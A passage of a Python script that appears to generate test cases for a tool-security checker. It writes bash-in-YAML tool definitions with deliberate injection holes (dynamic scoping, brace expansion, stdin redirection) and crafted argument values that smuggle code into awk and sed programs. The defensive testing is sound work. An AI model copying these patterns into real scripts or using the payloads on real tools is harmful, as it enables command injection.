        [[ "$n" =~ ^[0-9]+$ ]] || return 1
        apply_profile
        awk "NR <= $n" logs/app.log
      }
      head_lines
''', {"n": "2", "profile": AWKNR},
  "The quoted-name guard holds in `head_lines` and nothing there writes `n` again. `apply_profile`'s `read n` reads as a write of a global `n` in another function. bash's dynamic scope makes it `head_lines`' local `n`, now the caller's profile, in the awk program.")

A("fn-brace-awk", "function-word-count", r'''
name: count_tag
description: Count the log lines with a tag; the note is echoed.
args:
  note: {type: string, minLength: 1, maxLength: 200}
required: [note]
timeout: 30
steps:
  - name: count
    run: |
      count() {
        echo "note: $1"
        awk "/$2/ { n++ } END { print n + 0 }" logs/app.log
      }
      count "ERROR:"{,"$ARG_note"} "ERROR"
''', {"note": "x/ { n++ } END { " + AWKSYS + " } /x"},
  "Rule 5: `$2` is the call's second word, the literal `\"ERROR\"`; the caller's note is in the first word, echoed. bash brace-expands the first word `\"ERROR:\"{,\"$ARG_note\"}` into `ERROR:` and `ERROR:<note>`, so `$2` is the caller's text in the awk program.")

A("read-herestring-stdin-file-sed", "read-herestring-other-fd", r'''
name: saved_line
description: Print the saved line of the changelog (default 1).
args:
  saved: {type: string, minLength: 1, maxLength: 200}
required: [saved]
timeout: 30
steps:
  - name: line
    run: |
      printf '%s\n' "$ARG_saved" > "$HARBOR_RUN_DIR/saved.txt"
      read -r n <<< "1" 0< "$HARBOR_RUN_DIR/saved.txt"
      sed -n "${n}p" CHANGELOG.md
''', {"saved": SEDE},
  "`read` from a here-string of the author's text (`<<< \"1\"`) reads as the author's. The later `0<` redirection replaces stdin, so `read` takes the file written from the caller's value, inside sed's program.")


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(os.path.join(OUT, "then"), exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for f in os.listdir(os.path.join(OUT, "then")):
        os.unlink(os.path.join(OUT, "then", f))
    for name, y in THEN.items():
        open(os.path.join(OUT, "then", name + ".yaml"), "w").write(y)
    i = 0
    for name, cls, y, args, why, extra in ATT:
        if extra.pop("skip", False):
            continue
        i += 1
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": dict(args), "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec), name
    print(i, "attacks,", len(THEN), "then-exports")


if __name__ == "__main__":
    main()
